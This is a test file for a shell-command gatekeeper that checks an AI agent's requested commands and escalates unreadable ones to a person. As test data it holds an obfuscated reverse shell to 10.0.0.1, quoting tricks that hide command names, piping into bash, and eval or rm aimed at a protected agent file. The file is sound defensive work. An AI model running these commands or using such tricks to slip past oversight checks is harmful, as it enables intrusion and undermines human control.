"""The shell analysis, class by class: what bash reads, what each command does, and what
the judge cannot read completely (``unreadable``), which protection turns into tier 3."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.actors.security.conftest import T0, Env
from tether.actors.gatekeeper.security import ActionRequest, enrich, parse_policy
from tether.actors.gatekeeper.security.protection import UNREADABLE_MIN_TIER
from tether.actors.gatekeeper.security.shell import LexError, ShellParse, lex, parse_shell
from tether.actors.gatekeeper.security.shell.model import getopt


def _parse(env: Env, command: str) -> ShellParse:
    return parse_shell(command, str(env.ws), str(env.home))


def _reasons(env: Env, command: str) -> str:
    parsed = _parse(env, command)
    return " | ".join([*parsed.unreadable, *(r for c in parsed.commands for r in c.unreadable)])


def _writes(env: Env, command: str) -> set[str]:
    action = enrich(ActionRequest("r", "run_shell", {"command": command}, T0), str(env.ws),
                    str(env.home))
    return {p.relative or p.original for p in action.writes}


# --- what bash reads ------------------------------------------------------------------


def test_quotes_and_escapes_are_removed_the_way_bash_removes_them() -> None:
    assert [w.text for w in lex("c\"\"url 'b'ash \\rm ba\\\nsh")] == ["curl", "bash", "rm",
                                                                         "bash"]
    ansi = lex("$'\\x2fdev/tcp' $'\\101\\u00e9\\t'")
    assert [w.text for w in ansi] == ["/dev/tcp", "A\u00e9\t"]
    assert all(w.ansi for w in ansi)


def test_here_documents_are_data_attached_to_their_delimiter() -> None:
    tokens = lex("cat <<'EOF' > x.sh\nrm -f SOUL.md\nEOF\necho done")
    delimiter = next(w for w in tokens if w.text == "EOF")
    assert delimiter.heredoc == "rm -f SOUL.md\n" and not delimiter.heredoc_expands
    assert "rm" not in [w.text for w in tokens]
    expanding = next(w for w in lex("cat <<EOF\n$(id)\nEOF") if w.heredoc is not None)
    assert expanding.subs == ["id"]


def test_comments_arithmetic_tests_and_substitutions() -> None:
    assert [w.text for w in lex("echo a#b # rm x")] == ["echo", "a#b"]
    arith = lex("(( i > 2 ))")
    assert len(arith) == 1 and arith[0].arith == [" i > 2 "]
    assert [w.op for w in lex("[[ a < b && c ]]")] == [False] * 7
    word = lex('echo "$(cat "a b")"')[1]
    assert word.subs == ['cat "a b"']
    assert lex("diff <(sort a) b")[1].procsub == "<"
    fd = lex("echo hi 2>err")
    assert fd[2].fd and fd[2].text == "2"


@pytest.mark.parametrize("command", ["echo 'x", 'echo "x', "echo $(ls", "echo `ls", "x=${a"])
def test_unclosed_quotes_and_expansions_do_not_lex(command: str) -> None:
    with pytest.raises(LexError):
        lex(command)


def test_options_are_read_like_getopt_long() -> None:
    o = getopt(["-sSLo", "out", "--outp=f", "x", "--", "-y"], "o:", ("output=", "output-dir="))
    assert o.values("-o") == ["out"]
    assert o.values("--output") == ["f"] and o.values("--output-dir") == ["f"]
    assert o.operands == ["x", "-y"]
    assert getopt(["-i.bak", "-e", "s/a/b/"], "e:i::").values("-i") == [".bak"]


# --- folders and variables ------------------------------------------------------------


def test_cd_counts_after_and_and_is_uncertain_after_other_separators(env: Env) -> None:
    assert _writes(env, "cd sub && echo x > f") == {"sub/f"}
    assert _writes(env, "cd sub; echo x > f") == {"f", "sub/f"}
    assert _writes(env, "(cd sub); echo x > f") == {"f"}
    assert _writes(env, "cd sub & echo x > f") == {"f"}
    assert _writes(env, "true || cd sub && echo x > f") == {"f", "sub/f"}
    assert _writes(env, "bash -c 'cd sub'; echo x > f") == {"f"}
    assert _writes(env, "(echo) | cd sub && echo x > f") == {"f"}
    assert _writes(env, "env -C sub touch a > f") == {"sub/a", "f"}
    assert _writes(env, "for i in 1 2; do cd sub && touch t; done") == {"t"}  # dynamic


def test_reserved_words_are_reserved_only_where_bash_reserves_them(env: Env) -> None:
    assert _writes(env, "[[ a > b ]]") == set()
    assert _writes(env, "X=1 [[ a > b ]]") == {"b"}
    assert _writes(env, ">x [[ a > b ]]") == {"x", "b"}
    assert _writes(env, "case x in a) :;; [[) echo > b;; esac") == {"b"}
    assert _writes(env, "{ X=1 touch t; }") == {"t"}
    assert _writes(env, "case x in x|y) cd sub; touch t;; esac") == {"t", "sub/t"}
    assert _writes(env, "F=a; for F in b; do :; done > $F") == {"a"}


def test_variables_are_known_only_when_certain(env: Env) -> None:
    assert _writes(env, "F=a.txt; echo x > $F") == {"a.txt"}
    assert _writes(env, "F=a; F+=.txt; echo x > $F") == {"a.txt"}
    assert _writes(env, "true && F=a.txt; echo x > $F") == {"$F"}
    assert _writes(env, "F='a b'; rm $F") == {"$F"}
    assert _writes(env, "for f in a.txt b.txt; do rm $f; done") == {"a.txt", "b.txt"}
    assert _writes(env, "read F; echo x > $F") == {"$F"}


# --- the classes ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "says"),
    [
        # 1. a program fed on standard input
        ("echo id | bash", "standard input"),
        ("bash <<< id", "standard input"),
        ("bash <<EOF\nid\nEOF", "standard input"),
        ("python3 < x.py", "standard input"),
        ("bash <(echo id)", "stream"),
        ("echo id | (sh)", "standard input"),
        ("echo 'x' > x.sh; bash x.sh", "writes first"),
        # 2. source
        ("source x.sh", "source runs"),
        (". <(echo id)", ". runs"),
        # 3. eval, computed exec, functions, aliases
        ("eval id", "eval runs"),
        ("exec $X", "computed"),
        ("f(){ id; }; f", "function"),
        ("alias ls=id", "alias"),
        ("trap id EXIT", "trap"),
        # 4. inline code
        ("python3 -c 'print(1)'", "inline code"),
        ("perl -ne print f", "inline code"),
        ("node --eval 1", "inline code"),
        ("awk 'BEGIN{system(\"id\")}'", "runs a command"),
        ("awk '{print > \"f\"}'", "redirects"),
        ("awk '{print | \"sh\"}'", "pipes"),
        ("sed 's/a/b/e' f", "sed script"),
        ("sed 'w out' f", "sed script"),
        ("vim -c q f", "editor commands"),
        # 5. computed names and arguments
        ("$(echo rm) x", "computed"),
        ("/usr/bin/cur? x", "computed"),
        ("{rm,x}", "computed"),
        ("$'rm' x", "computed"),
        ("cat $(ls)", "argument computed"),
        ("echo $((x + 1))", "arithmetic"),
        ("echo ${a[$i]}", "subscript"),
        # 6. xargs, find, parallel
        ("ls | xargs touch", "xargs runs touch"),
        ("find . -exec touch {} +", "find -exec"),
        ("find build -delete", "find -delete"),
        ("parallel echo ::: a", "parallel"),
        ("chroot /srv ls", "root folder"),
        # 7. git
        ("git -c core.pager=less log", "git -c"),
        ("git clean -fd", "git clean"),
        ("git config core.editor vim", "git config"),
        ("git st", "not a git command"),
        ("GIT_DIR=x git log", "GIT_DIR"),
        ("git submodule foreach id", "foreach"),
        ("git bisect run id", "bisect run"),
        ("git rebase -x id main", "rebase"),
        ("git filter-branch HEAD", "filter-branch"),
        # 8. links
        ("ln -s a b", "link"),
        ("cp -s a b", "links"),
        # 9. CDPATH, cd -P, pushd
        ("CDPATH=.. cd x", "CDPATH"),
        ("cd -P sub", "cd -P"),
        ("pushd sub", "pushd"),
        # 10. computed redirections
        ("cat < $X", "redirection"),
        ("cat < /dev/tc?/h/1", "redirection"),
        # 11. writers that cannot be pinned down
        ("tar -xf a.tar", "tar -x"),
        ("unzip a.zip", "unzip"),
        ("patch -p1 < d", "patch"),
        ("curl -JO http://h/x", "server chooses"),
        ("sqlite3 db 'select 1'", "database shell"),
        # unknown commands fed data
        ("echo x | frob", "does not model"),
    ],
)
def test_each_class_is_unreadable(env: Env, command: str, says: str) -> None:
    reasons = _reasons(env, command)
    assert reasons, command
    assert says in reasons, (command, reasons)


@pytest.mark.parametrize(
    ("command", "written"),
    [
        ("uniq README.md out.txt", {"out.txt"}),
        ("tree -o t.txt", {"t.txt"}),
        ("sort -ro s.txt README.md", {"s.txt"}),
        ("shuf --output=s.txt README.md", {"s.txt"}),
        ("curl -sSLo c.txt http://h/x", {"c.txt"}),
        ("wget -qO w.txt http://h/x", {"w.txt"}),
        ("git diff --output=d.patch", {"d.patch"}),
        ("git archive -o a.tar HEAD", {"a.tar"}),
        ("tar -czf a.tgz src", {"a.tgz"}),
        ("gzip notes.txt", {"notes.txt", "notes.txt.gz"}),
        ("gunzip notes.txt.gz", {"notes.txt.gz", "notes.txt"}),
        ("ssh-keygen -f key -N ''", {"key", "key.pub"}),
        ("openssl rand -out r.bin 8", {"r.bin"}),
        ("xxd in.bin out.hex", {"out.hex"}),
        ("sed -n 'w sed.txt' README.md", {"sed.txt"}),
        ("awk '{print > \"awk.txt\"}' README.md", {"awk.txt"}),
        ("/usr/bin/time -o t.log ls", {"t.log"}),
        ("strace -o s.log ls", {"s.log"}),
        ("env -C sub touch e.txt", {"sub/e.txt"}),
        ("split README.md part.", {"part.*"}),
    ],
)
def test_file_writing_options_are_written_files(env: Env, command: str,
                                                written: set[str]) -> None:
    assert _writes(env, command) == written


@pytest.mark.parametrize(
    "command",
    ["ls -la", "cat README.md | grep x", "sed -n 1,20p f", "awk -F: '$3 > 1 {print $1}' f",
     "awk '/a|b/ || NR == 1' f", "git log --oneline -5", "git config user.name",
     "python -m pytest -q", "find . -name '*.py' | xargs wc -l", "diff <(sort a) <(sort b)",
     "for f in *.md; do wc -l \"$f\"; done", "cd src && ls", "python3 --version"],
)
def test_ordinary_commands_are_readable(env: Env, command: str) -> None:
    assert _reasons(env, command) == ""


# --- what the pipeline does with it -----------------------------------------------------


def test_unreadable_needs_a_person_even_when_the_policy_allows_everything(env: Env) -> None:
    env.config = replace(env.config, policy=parse_policy("rules:\n  - verdict: allow\n"),
                         tier2_enabled=True)
    result = env.shell("echo id | bash")
    assert result.min_tier == UNREADABLE_MIN_TIER
    assert (result.verdict, result.required_tier) == ("escalate", 3)
    assert result.stages[0].stage == "protection" and "standard input" in result.reason


def test_existing_denies_stay_denies(env: Env) -> None:
    for command in ("eval 'rm SOUL.md'", "echo rm | bash; rm SOUL.md",
                    "bash -i < /dev/t''cp/10.0.0.1/9", "sed -n 'w SOUL.md' README.md"):
        assert env.shell(command).verdict == "deny", command


def test_builds_and_installs_escalate_unless_the_policy_allows_them(env: Env) -> None:
    for command in ("make test", "pip install x", "npm install", "cmake ."):
        assert env.shell(command).verdict == "escalate", command
    env.config = replace(env.config, policy=parse_policy(
        "rules:\n  - tool: run_shell\n    command: '^make test$'\n    verdict: allow\n"))
    assert env.shell("make test").verdict == "allow"
    assert env.shell("make -f /dev/stdin").verdict == "escalate"


def test_git_configuration_and_hooks_are_agent_configuration(env: Env) -> None:
    (env.ws / ".git" / "hooks").mkdir(parents=True)
    written = env.run("write_file", {"path": ".git/config", "content": "[core]\n"})
    assert (written.verdict, written.min_tier) == ("escalate", 2)
    assert env.shell("echo x > .git/hooks/pre-commit").min_tier == 2
    assert env.shell("rm .git/config").verdict == "deny"
    assert env.shell("python3 fix.py .git/config").min_tier == 2
    assert env.shell("python3 app.py --config config.yaml").verdict == "allow"


def test_unknown_commands_naming_or_fed_protected_data(env: Env) -> None:
    assert env.shell("frob SOUL.md").verdict == "deny"
    assert env.shell("frob S*.md").verdict == "deny"
    assert env.shell("frob {SOUL,x}.md").verdict == "deny"
    assert env.shell("echo SOUL.md | frob").verdict == "escalate"
    assert env.shell("frob --version").verdict == "allow"


def test_odd_input_never_raises(env: Env) -> None:
    for command in ("echo x >> []]", "cat [!]", "$(" * 300 + ")" * 300, "a=(", "case x in",
                    "f() (", "echo $'\\x", "cat <<", "((", "[[ a <"):
        assert env.shell(command).verdict in ("allow", "deny", "escalate"), command


def test_folders_that_cd_after_cd_may_leave_are_capped_not_doubled(env: Env) -> None:
    """Each ``cd`` that may fail keeps the folder before it too: forty of them made 2**40
    possible folders, and held the gatekeeper (and every session's calls) for hours.
    Past 32 the folder is unknown, and a relative write in it is judged as one in an
    unknown folder (as in a loop that changes folder)."""
    many = "; ".join(f"cd d{i}" for i in range(40)) + "; touch x"
    assert _writes(env, many) == {"x"}
    few = "; ".join(f"cd d{i}" for i in range(3)) + "; touch x"
    assert len(_writes(env, few)) == 8  # each cd may or may not have happened
    loop = "for i in 1 2; do cd sub && touch x; done"
    assert env.shell(many).verdict == env.shell(loop).verdict != "allow"
